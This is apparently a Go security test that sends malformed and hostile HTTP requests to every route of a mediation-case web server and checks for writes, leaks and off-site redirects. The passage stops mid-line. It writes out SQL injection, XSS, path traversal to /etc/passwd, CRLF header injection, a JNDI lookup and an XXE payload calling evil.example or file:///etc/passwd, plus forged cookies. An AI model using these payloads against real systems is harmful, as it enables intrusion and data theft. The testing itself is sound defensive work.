package web_test

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"tiaojie/internal/auth"
	"tiaojie/internal/mediation"
	"tiaojie/internal/store"
	"tiaojie/internal/web"
)

// TestHostileRequests sends malformed and hostile requests to every route the
// server registers (a.Server.Routes(), so that a new route is covered without
// editing this file), as every kind of principal of newScene's world and with
// forged, expired and ended sessions. Every request is one that must not
// write: for each, the database must be byte for byte as before (after the
// queued read audits are flushed), the answer must not be a 5xx, an error
// answer must not show a party's name, phone or address, a submission's body,
// an invitation token or a session secret, nor anything of Go's, bbolt's,
// casbin's or echo's insides, and a redirect must stay on this server.
//
// Requests go over a raw TCP connection, byte for byte as written here, so
// that paths, headers and lengths can be as wrong as an attacker makes them.
//
// A request that legitimately succeeds as a read is fine, but a read that is
// audited writes: the GET routes that write an audit entry for a principal are
// found by probing before the requests are sent, and such a (route, principal)
// pair is then sent only requests whose IDs cannot resolve.
func TestHostileRequests(t *testing.T) {
	h := newHostile(t)
	reqs := h.requests()
	var audited []string
	for pair := range h.audited {
		audited = append(audited, pair[0]+" as "+pair[1])
	}
	slices.Sort(audited)
	t.Logf("%d hostile requests over %d routes; audited reads, sent only IDs that cannot resolve: %q",
		len(reqs), len(h.routes), audited)
	if len(reqs) < 200 {
		t.Errorf("only %d hostile requests", len(reqs))
	}
	statuses := map[string]map[int]int{}
	took := map[string]time.Duration{}
	for _, r := range reqs {
		kind, _, _ := strings.Cut(r.kind, ":")
		if statuses[kind] == nil {
			statuses[kind] = map[int]int{}
		}
		start := time.Now()
		statuses[kind][h.check(t, r)]++
		took[kind] += time.Since(start)
	}
	for _, kind := range slices.Sorted(maps.Keys(statuses)) {
		t.Logf("%-12s %5.1fs %v", kind, took[kind].Seconds(), statuses[kind])
	}
}

// hsReq is one hostile request.
type hsReq struct {
	kind   string // which family of hostility, for the failure message
	who    string // a key of hostile.who
	method string
	target string // the request target, sent as is
	ctype  string // Content-Type; none when empty
	body   []byte
	header []string // extra header lines, "Name: value"
	// raw, when set, makes the whole request from the host and the Cookie
	// header line (empty for none); method, target and body are then only
	// for the message.
	raw func(host, cookieLine string) []byte
	// halfClose ends the sending side after the request, so that a body
	// shorter than its Content-Length ends.
	halfClose bool
}

func (r hsReq) String() string {
	return fmt.Sprintf("[%s] %s %s %s as %s (%s, %d-byte body)", r.kind, r.method, abbreviate(r.target),
		strings.Join(r.header, "; "), r.who, r.ctype, len(r.body))
}

const hsJSON = "application/json"

var hsMethod = regexp.MustCompile(`^[A-Z]+$`)

// hsPrincipal is who a request comes from: the Cookie header it sends.
type hsPrincipal struct {
	// cookie returns the Cookie header value, "" for none. It runs after the
	// database's fingerprint is taken, so it may only make what the request
	// itself must remove again (an expired session).
	cookie func() string
	// renew, when set, starts a fresh session when this one nears the
	// minute after which a request would record that it was seen.
	renew func() string
	value string
	born  time.Time
	// own lists the secrets this principal may be shown about itself.
	own []string
}

// hostile is the world the requests are sent to.
type hostile struct {
	t      *testing.T
	s      *scene
	a      *testApp
	addr   string
	routes []hsRoute
	who    map[string]*hsPrincipal
	live   []string // the principals with a live session, plus anonymous
	// valid and other fill path parameters: with IDs of case A and with the
	// matching IDs of case B.
	valid, other map[string]string
	// audited marks the GET routes (by pattern) that write a read audit when
	// the principal reads them with valid IDs.
	audited map[[2]string]bool
	secrets []string
	// deadToken is an invitation token replaced by a newer one, and
	// replaced lists every such token; liveA3 is the newest.
	deadToken, liveA3 string
	replaced          []string
	userLi, userWang  string
	wang              mediation.ID
	// last is the database's fingerprint after the last request, "" when
	// something was set up since.
	last string
	// sources counts the loopback addresses requests were sent from.
	sources int
	// leaks holds the leaks reported, so that each is reported once.
	leaks map[string]int
}

type hsRoute struct{ method, path string }

func (r hsRoute) key() string { return r.method + " " + r.path }

func (r hsRoute) params() []string {
	var ps []string
	for seg := range strings.SplitSeq(r.path, "/") {
		if name, ok := strings.CutPrefix(seg, ":"); ok {
			ps = append(ps, name)
		}
	}
	return ps
}

// fill puts the values into the path's parameters; a parameter without a
// value gets "1".
func (r hsRoute) fill(values map[string]string) string {
	segs := strings.Split(r.path, "/")
	for i, seg := range segs {
		if name, ok := strings.CutPrefix(seg, ":"); ok {
			if v, ok := values[name]; ok {
				segs[i] = v
			} else {
				segs[i] = "1"
			}
		}
	}
	return strings.Join(segs, "/")
}

func newHostile(t *testing.T) *hostile {
	s := newScene(t)
	a := s.app
	h := &hostile{t: t, s: s, a: a, addr: a.HTTP.Listener.Addr().String(), who: map[string]*hsPrincipal{},
		audited: map[[2]string]bool{}, leaks: map[string]int{}}
	for _, rt := range a.Server.Routes() {
		method, path, _ := strings.Cut(rt, " ")
		if !hsMethod.MatchString(method) {
			continue // echo's own entries, such as echo_route_not_found
		}
		h.routes = append(h.routes, hsRoute{method, path})
	}
	slices.SortFunc(h.routes, func(x, y hsRoute) int { return strings.Compare(x.key(), y.key()) })
	h.routes = slices.Compact(h.routes)

	wang, err := a.DB.UserByName("wang")
	if err != nil {
		t.Fatal(err)
	}
	li, err := a.DB.UserByName("li.jianguo")
	if err != nil {
		t.Fatal(err)
	}
	h.wang, h.userWang, h.userLi = wang.ID, wang.ID.String(), li.ID.String()

	// A third party of case A whose first invitation is replaced: its first
	// token is the replayed one.
	var p3 partyCreated
	s.mediator.mustJSON("POST", "/api/v1/cases/"+s.caseA+"/parties", map[string]string{"name": "冯敏",
		"kind": "person", "side": "third_party", "phone": "13600136004", "address": "5号楼101"}, http.StatusCreated, &p3)
	var inv struct {
		Token string `json:"token"`
	}
	s.mediator.mustJSON("POST", "/api/v1/cases/"+s.caseA+"/parties/"+p3.ID+"/invitation", nil, http.StatusCreated, &inv)
	h.deadToken, h.liveA3 = p3.Invitation.Token, inv.Token
	h.replaced = append(h.replaced, h.deadToken)

	h.valid = map[string]string{"case": s.caseA, "party": s.partyA1, "submission": s.subA1, "user": h.userWang,
		"token": h.deadToken, "file": "style.css"}
	h.other = map[string]string{"case": s.caseB, "party": s.partyB1, "submission": s.subB1, "user": h.userLi}

	// Principals with live sessions of their own, made as the scene's were.
	staff := func(username string) func() string {
		return func() string {
			cred, _, err := a.Auth.Login(username, "pw-"+username+"-密码")
			if err != nil {
				t.Fatalf("sign in %s: %v", username, err)
			}
			return cred.Cookie
		}
	}
	party := func(token string) func() string {
		return func() string {
			cred, _, err := a.Auth.Redeem(token)
			if err != nil {
				t.Fatalf("redeem: %v", err)
			}
			return cred.Cookie
		}
	}
	h.who["anon"] = &hsPrincipal{}
	for name, renew := range map[string]func() string{"admin": staff("admin"), "office": staff("office"),
		"mediator": staff("wang"), "other": staff("li.jianguo"),
		"a1": party(s.tokenA1), "a2": party(s.tokenA2), "b1": party(s.tokenB1)} {
		h.who[name] = &hsPrincipal{renew: renew}
	}
	h.who["a1"].own = []string{"赵明", "13800138001", "3号楼501", "车位是我买的。", s.tokenA1}
	h.who["a2"].own = []string{"钱丽", "13900139002", "3号楼302", "前业主借给我用的。", s.tokenA2}
	h.who["b1"].own = []string{"孙强", "13700137003", "楼上太吵。", s.tokenB1}
	h.live = []string{"anon", "admin", "office", "mediator", "other", "a1", "a2", "b1"}
	for _, name := range h.live {
		h.fresh(name)
	}
	h.deadPrincipals()

	h.secrets = []string{"赵明", "钱丽", "孙强", "冯敏", "13800138001", "13900139002", "13700137003", "13600136004",
		"3号楼501", "3号楼302", "5号楼101", "车位是我买的。", "前业主借给我用的。", "楼上太吵。",
		s.tokenA1, s.tokenA2, s.tokenB1, h.liveA3}
	h.secrets = append(h.secrets, h.replaced...)
	// The secrets of the sessions, live and ended.
	for name, p := range h.who {
		v := p.value
		if strings.HasPrefix(name, "dead:") && name != "dead:expired" {
			v = p.cookie()
		}
		if _, secret, ok := strings.Cut(v, "."); ok && len(secret) >= 43 {
			h.secrets = append(h.secrets, secret[:43])
		}
	}
	h.probeAudited()
	return h
}

// fresh renews the principal's session when it is near the minute after
// which a request would write down that it was seen.
func (h *hostile) fresh(name string) {
	p := h.who[name]
	if p.renew != nil && (p.value == "" || time.Since(p.born) > 40*time.Second) {
		h.last = ""
		p.value, p.born = p.renew(), time.Now()
		p.cookie = func() string { return web.CookieName(false) + "=" + p.value }
	}
}

// deadPrincipals are sessions that must count for nothing.
func (h *hostile) deadPrincipals() {
	a, t := h.a, h.t
	name := web.CookieName(false)
	fixed := func(v string) *hsPrincipal { return &hsPrincipal{cookie: func() string { return v }} }

	med := h.who["mediator"].value
	idHex, secret, _ := strings.Cut(med, ".")
	_, otherSecret, _, err := auth.NewLoginCredential()
	if err != nil {
		t.Fatal(err)
	}
	_, _, random, err := auth.NewLoginCredential()
	if err != nil {
		t.Fatal(err)
	}
	h.who["dead:garbage"] = fixed(name + "=' OR '1'='1")
	h.who["dead:traversal"] = fixed(name + "=../../../../etc/passwd")
	h.who["dead:long"] = fixed(name + "=" + strings.Repeat("A", 4000))
	h.who["dead:wrongsecret"] = fixed(name + "=" + idHex + "." + otherSecret)
	h.who["dead:random"] = fixed(name + "=" + random)
	h.who["dead:uppercase"] = fixed(name + "=" + strings.ToUpper(idHex) + "." + secret)
	h.who["dead:noncanonical"] = fixed(name + "=" + idHex + "." + hsNonCanonical(secret))
	h.who["dead:padded"] = fixed(name + "=" + med + "=")
	h.who["dead:nul"] = fixed(name + "=" + idHex + "%00." + secret)

	// A real session after its logout, and one after its holder signed in
	// again (a sign-in ends the session the browser had).
	cred, _, err := a.Auth.Login("wang", "pw-wang-密码")
	if err != nil {
		t.Fatal(err)
	}
	status, _, body, err := h.send(hsReq{method: "POST", target: "/api/v1/logout"}, name+"="+cred.Cookie)
	if err != nil || status != http.StatusNoContent {
		t.Fatalf("logout: %d %v %s", status, err, body)
	}
	h.who["dead:loggedout"] = fixed(name + "=" + cred.Cookie)
	cred, _, err = a.Auth.Login("li.jianguo", "pw-li.jianguo-密码")
	if err != nil {
		t.Fatal(err)
	}
	status, _, body, err = h.send(hsReq{method: "POST", target: "/api/v1/login", ctype: hsJSON,
		body: []byte(`{"username":"li.jianguo","password":"pw-li.jianguo-密码"}`)}, name+"="+cred.Cookie)
	if err != nil || status != http.StatusOK {
		t.Fatalf("sign in again: %d %v %s", status, err, body)
	}
	h.who["dead:signedinagain"] = fixed(name + "=" + cred.Cookie)
	// A party's session ended by a new invitation for it.
	cred, _, err = a.Auth.Redeem(h.liveA3)
	if err != nil {
		t.Fatal(err)
	}
	var inv struct {
		Token string `json:"token"`
	}
	h.s.mediator.mustJSON("POST", "/api/v1/cases/"+h.s.caseA+"/parties/"+hsPartyOf(t, a, h.liveA3)+"/invitation",
		nil, http.StatusCreated, &inv)
	h.who["dead:reinvited"] = fixed(name + "=" + cred.Cookie)
	h.replaced = append(h.replaced, h.liveA3)
	h.liveA3 = inv.Token

	// An expired session: made afresh for each request (after the
	// fingerprint), which the server must remove and do nothing else.
	h.who["dead:expired"] = &hsPrincipal{cookie: func() string {
		id, secret, cookie, err := auth.NewLoginCredential()
		if err != nil {
			t.Fatal(err)
		}
		now := a.DB.Now().UTC()
		if err := a.DB.CreateLogin(&store.Login{ID: id, SecretHash: auth.HashSecret(secret),
			UserID: h.wang, CreatedAt: now.Add(-13 * time.Hour),
			LastSeen: now.Add(-2 * time.Hour)}, nil); err != nil {
			t.Fatal(err)
		}
		return name + "=" + cookie
	}}
	for _, p := range h.who {
		if p.cookie == nil && p.renew == nil {
			p.cookie = func() string { return "" }
		}
	}
}

// partyOf is the party an invitation token lets in.
func hsPartyOf(t *testing.T, a *testApp, token string) string {
	t.Helper()
	inv, err := a.DB.Invitation(auth.HashToken(token))
	if err != nil {
		t.Fatal(err)
	}
	return inv.PartyID.String()
}

const hsB64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

// nonCanonical spells the same bytes as the base64url s (without padding)
// with non-zero unused bits in its last character: a second spelling that
// must be refused.
func hsNonCanonical(s string) string {
	i := strings.IndexByte(hsB64URL, s[len(s)-1])
	return s[:len(s)-1] + string(hsB64URL[i|1])
}

// probeAudited finds the GET routes that write a read audit for a principal
// when read with case A's IDs.
func (h *hostile) probeAudited() {
	for _, r := range h.routes {
		if r.method != http.MethodGet {
			continue
		}
		for _, who := range h.live {
			before := boltFingerprint(h.t, h.a)
			if _, _, _, err := h.send(hsReq{method: r.method, target: r.fill(h.valid)}, h.cookieLine(who)); err != nil {
				h.t.Fatalf("probe %s as %s: %v", r.key(), who, err)
			}
			if boltFingerprint(h.t, h.a) != before {
				h.audited[[2]string{r.key(), who}] = true
			}
		}
	}
}

func (h *hostile) cookieLine(who string) string {
	h.fresh(who)
	return h.who[who].cookie()
}

// send writes the request on a new connection and reads the answer.
func (h *hostile) send(r hsReq, cookie string) (int, http.Header, []byte, error) {
	var req []byte
	if r.raw != nil {
		line := ""
		if cookie != "" {
			line = "Cookie: " + cookie + "\r\n"
		}
		req = r.raw(h.addr, line)
	} else {
		var b bytes.Buffer
		fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", r.method, r.target, h.addr)
		if cookie != "" {
			fmt.Fprintf(&b, "Cookie: %s\r\n", cookie)
		}
		if r.ctype != "" {
			fmt.Fprintf(&b, "Content-Type: %s\r\n", r.ctype)
		}
		for _, line := range r.header {
			b.WriteString(line + "\r\n")
		}
		if r.body != nil || r.method == "POST" || r.method == "PUT" || r.method == "PATCH" {
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(r.body))
		}
		b.WriteString("\r\n")
		b.Write(r.body)
		req = b.Bytes()
	}
	// Each request comes from an address of its own on the loopback
	// network, so that the rate limits on sign-in and invitations (tested
	// elsewhere) do not stop the hostile bodies before the code behind them.
	h.sources++
	n := h.sources
	return hsExchange(h.addr, net.IPv4(127, byte(1+n>>16), byte(n>>8), byte(1+n%254)), req, r.halfClose)
}

// hsExchange sends the bytes of one request from the source address (any
// when nil) on a new connection and reads the final answer.
func hsExchange(addr string, src net.IP, req []byte, halfClose bool) (int, http.Header, []byte, error) {
	d := &net.Dialer{}
	if src != nil {
		d.LocalAddr = &net.TCPAddr{IP: src}
	}
	conn, err := d.Dial("tcp", addr)
	if err != nil {
		return 0, nil, nil, err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	go func() {
		// The server may answer and close before it has read all of a large
		// body; the write error is then expected.
		conn.Write(req)
		if halfClose {
			conn.(*net.TCPConn).CloseWrite()
		}
	}()
	br := bufio.NewReader(conn)
	resp, err := http.ReadResponse(br, nil)
	for err == nil && resp.StatusCode >= 100 && resp.StatusCode < 200 {
		resp, err = http.ReadResponse(br, nil) // an interim answer: the final one follows
	}
	if err != nil {
		return 0, nil, nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 8<<20))
	if err != nil {
		return 0, nil, nil, err
	}
	return resp.StatusCode, resp.Header, body, nil
}

// hsInternals is what an answer must never show of the program's insides.
var hsInternals = regexp.MustCompile(`(?i)goroutine \d|runtime error|runtime\.|panic|\.go:\d|/work/|/root/|/usr/local/go|/tmp/|` +
	`bbolt|bolt\.|casbin|\becho\b|labstack|reflect\.|strconv\.|mediation error|tiaojie/internal|json: |` +
	`invalid character|unexpected end of JSON|unexpected EOF|http: request body|MaxBytes`)

// check sends one request and checks the answer and the database.
func (h *hostile) check(t *testing.T, r hsReq) int {
	t.Helper()
	p := h.who[r.who]
	if p == nil {
		t.Fatalf("%s: no principal %q", r, r.who)
	}
	h.fresh(r.who)
	before := h.last
	if before == "" {
		before = boltFingerprint(t, h.a)
	}
	status, header, body, err := h.send(r, p.cookie())
	after := boltFingerprint(t, h.a)
	h.last = after
	if err != nil {
		t.Errorf("%s: no answer: %v", r, err)
	}
	if after != before {
		t.Errorf("%s: the database changed (answer %d: %s)", r, status, abbreviate(string(body)))
	}
	if status >= 500 {
		t.Errorf("%s: status %d: %s", r, status, abbreviate(string(body)))
	}
	if loc := header.Get("Location"); loc != "" {
		if u, err := url.Parse(loc); err != nil || u.Host != "" || u.Scheme != "" || !strings.HasPrefix(loc, "/") ||
			strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, "/\\") {
			t.Errorf("%s: redirects off this server, to %q", r, loc)
		}
	}
	for name := range header {
		if strings.HasPrefix(strings.ToLower(name), "x-injected") {
			t.Errorf("%s: a header was injected: %s", r, name)
		}
	}
	if status < 400 && !slices.Contains([]string{"anon", "admin", "office"}, r.who) && !strings.HasPrefix(r.who, "dead:") {
		return status // what a principal may read is the matrix's business
	}
	html := strings.HasPrefix(header.Get("Content-Type"), "text/html")
	for _, secret := range h.secrets {
		if html && slices.Contains(p.own, secret) {
			continue // a page may show its reader its own name
		}
		if strings.Contains(string(body), secret) {
			h.leak(t, r, status, secret, body)
		}
	}
	if status >= 400 {
		if m := hsInternals.FindString(string(body)); m != "" {
			t.Errorf("%s: error answer %d shows %q: %s", r, status, m, abbreviate(string(body)))
		}
	}
	return status
}

// leak reports that the answer shows secret, once for each route and
// secret however many requests show it.
func (h *hostile) leak(t *testing.T, r hsReq, status int, secret string, body []byte) {
	t.Helper()
	key := hsPattern(h.routes, r.target) + " " + secret
	if h.leaks[key]++; h.leaks[key] > 1 {
		return
	}
	i := strings.Index(string(body), secret)
	context := string(body[max(0, i-80):min(len(body), i+len(secret)+20)])
	t.Errorf("%s: answer %d shows %q (reported once per route; first seen here): …%s…", r, status, secret, context)
}

// hsPattern is the registered path a target would match, by its static
// segments, or the target itself.
func hsPattern(routes []hsRoute, target string) string {
	path, _, _ := strings.Cut(target, "?")
	segs := strings.Split(path, "/")
	for _, r := range routes {
		rs := strings.Split(r.path, "/")
		if len(rs) != len(segs) {
			continue
		}
		match := true
		for i := range rs {
			if !strings.HasPrefix(rs[i], ":") && rs[i] != segs[i] {
				match = false
			}
		}
		if match {
			return r.path
		}
	}
	return path
}

// Hostile values.
var (
	// hsIDs are path IDs that no record has: huge, negative, hex, other
	// digits, injections, traversal, bytes that are not UTF-8.
	hsIDs = []string{"999999999", "18446744073709551615", "18446744073709551616", "99999999999999999999999",
		"-1", "0", "00", "007", "0x1F", "1e3", "1.0", "+1", "%201", "1%20", "%EF%BC%94%EF%BC%92" /* ４２ */, "%D9%A1%D9%A2", /* ١٢ */
		"%27%20OR%20%271%27%3D%271", "1%3BDROP%20TABLE%20cases", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
		"..%2f..%2fetc", "%2e%2e", "%00", "1%00", "%ff%fe", "1%0d%0aX-Injected:%20yes", "%7B%7B.%7D%7D", "$%7Bjndi:x%7D",
		"null", "undefined", "true", "[1]", strings.Repeat("9", 2000)}

	// hsPayloads go into every string field of a body.
	hsPayloads = []string{
		`' OR '1'='1'; DROP TABLE cases;--`,
		`" UNION SELECT username, password_hash FROM users --`,
		`<script>alert(document.cookie)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`{{.}}{{template "x"}}{{printf "%s" .}}`,
		`../../../../etc/passwd`,
		"%s%n%x%d\x00",
		"line\r\nX-Injected: yes",
		"\u202egnp.exe\u200b\ufeff",
		`${jndi:ldap://evil.example/a}`,
		`javascript:alert(1)`,
		strings.Repeat("长", 70000),
	}
)

// hsBodies are bodies that are not one acceptable JSON object.
type hsBody struct {
	name, ctype string
	body        []byte
}

func hsBodies(valid string) []hsBody {
	type b = hsBody
	if valid == "" {
		valid = `{}`
	}
	return []b{
		{"Truncated", hsJSON, []byte(valid[:len(valid)/2])},
		{"SingleQuotes", hsJSON, []byte(`{'title':'x'}`)},
		{"TrailingComma", hsJSON, []byte(`{"title":"x",}`)},
		{"Array", hsJSON, []byte(`[` + valid + `]`)},
		{"TwoObjects", hsJSON, []byte(valid + valid)},
		{"Comment", hsJSON, []byte(`/* x */` + valid)},
		{"Over1MiB", hsJSON, []byte(valid + strings.Repeat(" ", 1<<20))},
		{"String2MiB", hsJSON, []byte(`{"title":"` + strings.Repeat("x", 2<<20) + `"}`)},
		{"Nested100kArrays", hsJSON, []byte(strings.Repeat("[", 100000))},
		{"Nested100kObjects", hsJSON, []byte(strings.Repeat(`{"a":`, 100000))},
		{"Nested100kInField", hsJSON, []byte(`{"title":` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}`)},
		{"InvalidUTF8Value", hsJSON, []byte(`{"title":"\xff\xfe\xc0\xaf","body":"\xed\xa0\x80"}`)},
		{"InvalidUTF8Key", hsJSON, []byte("{\"\xff\xfe\":1}")},
		{"InvalidUTF8Outside", hsJSON, []byte("\xff" + valid)},
		{"BOM", hsJSON, append([]byte("\xef\xbb\xbf"), valid...)},
		{"UTF16", "application/json; charset=utf-16", hsUTF16LE(valid)},
		{"LoneSurrogates", hsJSON, []byte(`{"title":"\ud800\udfff\ud800","body":"\u0000"}`)},
		{"HugeNumber", hsJSON, []byte(`{"user_id":1e999999,"party_id":` + strings.Repeat("9", 5000) + `}`)},
		{"TextPlain", "text/plain", []byte(valid)},
		{"Form", "application/x-www-form-urlencoded", []byte("title=x&body=y")},
		{"Multipart", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nx\r\n--x--\r\n")},
		{"XML", "application/xml", []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`)},
		{"TextJSON", "text/json", []byte(valid)},
		{"JSONPatch", "application/json-patch+json", []byte(`[{"op":"replace","path":"/title","value":"x"}]`)},
		{"TwoTypes", "application/json, text/plain", []byte(valid)},
		{"BrokenParam", "application/json; charset", []byte(valid)},
		{"NoType", "", []byte(valid)},
	}
}

func hsUTF16LE(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, r := range s {
		out = append(out, byte(r), byte(r>>8))
	}
	return out
}

// hsForm is what a route's body looks like: a body each route would take
// from its capable principal, its string fields and its ID fields.
type hsForm struct {
	capable string // who may use the route; "" when unknown
	// bodyless routes write without reading a body: hostile bodies go to
	// them only from principals who may not use them.
	bodyless  bool
	outsiders []string
	valid     string
	strings   []string
	ids       []string
}

// form describes the JSON routes; any other route is sent bodies blind.
func (h *hostile) form(r hsRoute) hsForm {
	switch r.key() {
	case "POST /api/v1/login":
		return hsForm{capable: "anon", valid: `{"username":"wang","password":"not-the-password"}`,
			strings: []string{"username", "password"}}
	case "POST /api/v1/access":
		return hsForm{capable: "anon", valid: `{"token":"` + h.deadToken + `"}`, strings: []string{"token"}}
	case "POST /api/v1/logout":
		return hsForm{bodyless: true, outsiders: []string{"anon", "dead:loggedout"}}
	case "POST /api/v1/users":
		return hsForm{capable: "admin", valid: `{"username":"zhou.min","display_name":"周敏","role":"mediator","password":"一个足够长的密码"}`,
			strings: []string{"username", "display_name", "role", "phone", "password"}}
	case "POST /api/v1/cases":
		return hsForm{capable: "mediator", valid: `{"title":"新案件","category":"pets","community":"dongfeng","source":"party_application"}`,
			strings: []string{"title", "category", "community", "street", "summary", "source"}}
	case "PATCH /api/v1/cases/:case":
		return hsForm{capable: "mediator", valid: `{"title":"改过的标题"}`,
			strings: []string{"title", "category", "community", "street", "summary", "source"}}
	case "POST /api/v1/cases/:case/transitions":
		return hsForm{capable: "mediator", valid: `{"to":"mediating"}`, strings: []string{"to", "reason"}}
	case "POST /api/v1/cases/:case/mediators":
		return hsForm{capable: "admin", valid: `{"user_id":"` + h.userLi + `"}`, ids: []string{"user_id"}}
	case "DELETE /api/v1/cases/:case/mediators/:user":
		// Wang is case A's only mediator: the valid body is refused as a conflict.
		return hsForm{capable: "admin", valid: `{"reason":"回避"}`, strings: []string{"reason"}}
	case "POST /api/v1/cases/:case/parties":
		return hsForm{capable: "mediator", valid: `{"name":"新当事人","kind":"person","side":"third_party"}`,
			strings: []string{"name", "kind", "side", "phone", "address", "represents"}}
	case "POST /api/v1/cases/:case/parties/:party/invitation":
		return hsForm{bodyless: true, outsiders: []string{"other", "a1", "office", "admin"}}
	case "POST /api/v1/cases/:case/submissions":
		return hsForm{capable: "a1", valid: `{"kind":"response","body":"补充说明"}`,
			strings: []string{"kind", "body"}, ids: []string{"party_id", "supersedes"}}
	case "POST /api/v1/cases/:case/submissions/:submission/release":
		return hsForm{bodyless: true, outsiders: []string{"a2", "mediator", "b1"}}
	}
	if r.method == http.MethodGet || r.method == http.MethodHead {
		return hsForm{}
	}
	// A route this test does not know: pages post forms guarded by a CSRF
	// token, which no hostile request has; a new JSON route refuses these
	// bodies at decode.
	return hsForm{capable: "mediator"}
}

// payloadBody puts p into every field of the form.
func hsPayloadBody(f hsForm, p string) []byte {
	var o jsonObject
	for _, name := range slices.Concat(f.strings, f.ids) {
		o = append(o, [2]string{name, jsonText(p)})
	}
	return []byte(o.String())
}

// requests lists every hostile request.
func (h *hostile) requests() []hsReq {
	var out []hsReq
	add := func(r hsReq) { out = append(out, r) }
	s := h.s
	rotation := []string{"mediator", "a1", "admin", "anon", "other", "office", "a2", "b1"}
	n, slot := 0, 0
	next := func() string { n++; return rotation[n%len(rotation)] }
	var dead []string
	for name := range h.who {
		if strings.HasPrefix(name, "dead:") {
			dead = append(dead, name)
		}
	}
	slices.Sort(dead)
	d := 0
	bodyOf := func(r hsRoute) (string, []byte) {
		if f := h.form(r); f.valid != "" {
			return hsJSON, []byte(f.valid)
		}
		return "", nil
	}

	for _, r := range h.routes {
		params := r.params()
		ctype, body := bodyOf(r)

		// IDs that cannot resolve, in each parameter, from everyone: a
		// window of the list per parameter, so that every ID meets every
		// kind of parameter over the routes.
		for _, p := range params {
			for range 8 {
				slot++
				id := hsIDs[slot%len(hsIDs)]
				add(hsReq{kind: "BadID:" + p, who: next(), method: r.method, target: r.fill(hsWith(h.valid, p, id)), ctype: ctype, body: body})
			}
		}

		// IDs of the other case, from the members of each.
		if hsKnown(params) {
			for _, who := range []string{"mediator", "a1", "a2"} {
				for _, p := range params {
					add(hsReq{kind: "OtherCase:" + p, who: who, method: r.method, target: r.fill(hsWith(h.valid, p, h.other[p])),
						ctype: ctype, body: body})
				}
				if len(params) > 1 {
					add(hsReq{kind: "OtherCase:all", who: who, method: r.method, target: r.fill(h.other), ctype: ctype, body: body})
				}
			}
			if len(params) > 0 {
				for _, who := range []string{"other", "b1"} {
					if !h.audited[[2]string{r.key(), who}] {
						add(hsReq{kind: "OtherCase", who: who, method: r.method, target: r.fill(h.valid), ctype: ctype, body: body})
					}
				}
			}
		}

		// Dead sessions, with the body the route would take: every one on
		// every API route that writes, a few on each other route.
		for i := range dead {
			if (r.method == http.MethodGet && i >= 2) || (!strings.HasPrefix(r.path, "/api/") && i >= 4) {
				break
			}
			d++
			add(hsReq{kind: "DeadSession", who: dead[d%len(dead)], method: r.method, target: r.fill(h.valid), ctype: ctype, body: body})
		}

		// Cross-origin writes, with the body the route would take.
		if f := h.form(r); r.method != http.MethodGet && (f.capable != "" || f.bodyless) {
			who := f.capable
			if f.bodyless {
				who = map[string]string{"POST /api/v1/logout": "mediator",
					"POST /api/v1/cases/:case/parties/:party/invitation":       "mediator",
					"POST /api/v1/cases/:case/submissions/:submission/release": "a1"}[r.key()]
			}
			if who != "" {
				for _, hdr := range []string{"Origin: https://evil.example", "Sec-Fetch-Site: cross-site", "Origin: null"} {
					add(hsReq{kind: "CrossOrigin", who: who, method: r.method, target: r.fill(h.valid), ctype: ctype, body: body,
						header: []string{hdr}})
				}
			}
		}

		switch r.method {
		case http.MethodGet:
			h.queries(r, add)
		default:
			h.bodies(r, add)
		}
	}

	h.methods(add)
	h.traversal(add)
	h.tokens(add)
	h.protocol(add)

	// IDs of other cases and parties in bodies.
	caseA := "/api/v1/cases/" + s.caseA
	for _, body := range []string{
		`{"party_id":"` + s.partyB1 + `","kind":"position","body":"x"}`,
		`{"party_id":"` + s.partyA2 + `","kind":"position","body":"x"}`,
		`{"kind":"position","body":"x","supersedes":"` + s.subB1 + `"}`,
		`{"kind":"position","body":"x","supersedes":"` + s.subA2 + `"}`,
		`{"kind":"position","body":"x","party_id":"-1"}`,
		`{"kind":"position","body":"x","party_id":"0x1"}`,
		`{"kind":"position","body":"x","party_id":"' OR 1=1--"}`,
	} {
		add(hsReq{kind: "BodyID", who: "a1", method: "POST", target: caseA + "/submissions", ctype: hsJSON, body: []byte(body)})
	}
	add(hsReq{kind: "BodyID", who: "mediator", method: "POST", target: caseA + "/submissions", ctype: hsJSON,
		body: []byte(`{"party_id":"` + s.partyB1 + `","kind":"position","body":"x"}`)})
	add(hsReq{kind: "BodyID", who: "admin", method: "POST", target: caseA + "/mediators", ctype: hsJSON,
		body: []byte(`{"user_id":"18446744073709551616"}`)})
	add(hsReq{kind: "BodyID", who: "admin", method: "POST", target: caseA + "/mediators", ctype: hsJSON,
		body: []byte(`{"user_id":"999999"}`)})
	return out
}

func hsKnown(params []string) bool {
	for _, p := range params {
		if !slices.Contains([]string{"case", "party", "submission", "user"}, p) {
			return false
		}
	}
	return true
}

// maps is m with key set to v.
func hsWith(m map[string]string, key, v string) map[string]string {
	out := map[string]string{key: v}
	for k, x := range m {
		if k != key {
			out[k] = x
		}
	}
	return out
}

// queries sends bad query strings to a GET route.
func (h *hostile) queries(r hsRoute, add func(hsReq)) {
	queries := []string{"limit=-1", "limit=999999", "limit=abc", "limit=0", "limit=201", "limit=1e2", "limit=%EF%BC%95",
		"limit=5%00", "limit=%2B5", "limit=05", "limit=9223372036854775808", "cursor=garbage", "cursor=-1", "cursor=0",
		"cursor=%ff%fe", "cursor=%27%20OR%201%3D1--", "cursor=" + strings.Repeat("9", 500)}
	other := []string{"status=%3Cscript%3E", "category=%ff", "lang=..%2f..%2fetc%2fpasswd", "lang=%ff", "back=%2F%2Fevil.example",
